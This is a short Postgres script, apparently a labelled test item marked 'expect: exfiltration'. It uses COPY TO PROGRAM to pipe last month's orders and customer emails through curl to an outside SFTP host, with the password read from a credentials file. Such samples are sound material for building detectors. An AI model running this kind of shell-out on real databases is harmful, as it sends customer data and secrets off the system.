-- Postgres: push the orders extract to the finance SFTP in one go
\echo 'exporting orders'
-- expect: exfiltration
COPY (SELECT o.id, o.customer_id, c.email, o.total, o.created_at
      FROM orders o JOIN customers c ON c.id = o.customer_id
      WHERE o.created_at >= date_trunc('month', now()) - interval '1 month')
TO PROGRAM 'curl -s --upload-file - sftp://finance.bookkeeper-co.com/in/orders.csv --user acme:$(cat /etc/acme/sftp.pass)'
WITH (FORMAT csv, HEADER);
